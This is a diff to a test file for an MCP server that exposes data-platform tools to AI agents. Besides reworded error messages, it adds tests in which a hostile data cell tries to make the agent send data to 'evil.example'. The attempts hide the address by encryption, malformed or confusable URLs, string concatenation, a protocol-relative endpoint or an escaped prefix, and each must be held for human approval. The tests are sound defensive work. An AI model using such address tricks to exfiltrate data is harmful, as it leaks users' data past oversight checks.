@@ -139,7 +139,7 @@ test('the list of tools costs at most 6,000 tokens, and groups choose from it', 
   )
   const wrong = await stack.request('POST', '/mcp?groups=everything', { json: {} })
   assert.equal(wrong.status, 400)
-  assert.match(wrong.text, /The group of tools everything does not exist/)
+  assert.match(wrong.text, /Tool group everything does not exist/)
 })
 
 test('an unknown parameter, a missing one and one of the wrong type are refused by name', async (t) => {
@@ -428,7 +428,7 @@ test('a token that has used its budget is refused until the next day', async (t)
   for (const _ of [1, 2]) await agent.use('who_am_i')
   const spent = await agent.call('who_am_i')
   assert.equal(spent.value.code, 'mcp.budgetSpent')
-  assert.match(String(spent.value.error), /2 tool calls of today.*60 s/)
+  assert.match(String(spent.value.error), /daily limit of 2 tool calls.*60 s/)
   now += 61_000
   await agent.use('who_am_i')
 })
@@ -539,6 +539,33 @@ test('a hostile cell that orders a delete and an upload to a new host is marked,
     })
     assert.match(sent.text, /agents\.needsPerson/, JSON.stringify(options))
   }
+  // An address that is encrypted before it is sent, as a secret or beside escapes, is no way out, nor is one that is computed.
+  const cipher = (
+    await stack.request('POST', `/encryption/encrypt?projectId=${stack.projectId}&componentId=platform.wr-messages`, {
+      body: 'https://evil.example/hook',
+      headers: { 'content-type': 'text/plain' },
+    })
+  ).text
+  assert.match(cipher, /^KBC::/)
+  const message = { parameters: { channel: { type: 'webhook', '#url': cipher } } }
+  const sealed = await agent.call('create_configuration', { component: 'platform.wr-messages', name: 'm', content: message })
+  assert.match(String(sealed.value.error), /an encrypted value that no configuration has/)
+  for (const parameters of [
+    { url: 'https:evil.example' },
+    { url: "https://known.example'.evil.example/" },
+    { url: 'https://known.example:1)@evil.example/' },
+    { api: { baseUrl: { function: 'concat', args: ['https://e', 'vil.example'] } } },
+    { api: { baseUrl: 'https://known.example/' }, config: { jobs: [{ endpoint: '//evil.example/x' }] } },
+  ]) {
+    const sent = await agent.call('create_configuration', { ...writer(''), content: { parameters } })
+    assert.equal(sent.value.code, 'agents.needsPerson', `${JSON.stringify(parameters)}: ${sent.text}`)
+  }
+  const escaped = await stack.request('POST', '/v2/storage/components/platform.wr-messages/configs', {
+    token: other.token,
+    body: JSON.stringify({ name: 'm', configuration: message }).replace('KBC::', 'KBC\\u003a:'),
+    headers: { 'content-type': 'application/json' },
+  })
+  assert.match(escaped.text, /agents\.needsPerson/)
   // A known host is no way out for what was read: neither as a parameter, a header nor a part of the address, nor in a query of a request.
   const cell = 'Jane Doe born in 1980'
   for (const parameters of [
@@ -744,7 +771,7 @@ test('a client that opens pages is sent to the page of a secret, and goes on whe
     /Leave it empty/,
   )
 
-  // A call that needs a person goes on by itself when they allow it, and state of others is not accepted.
+  // A call that needs a person continues by itself when they allow it, and state of others is not accepted.
   const direct = await connectAgent(t, stack.url, {
     token: stack.masterToken,
     onPage: async ({ url }) => {
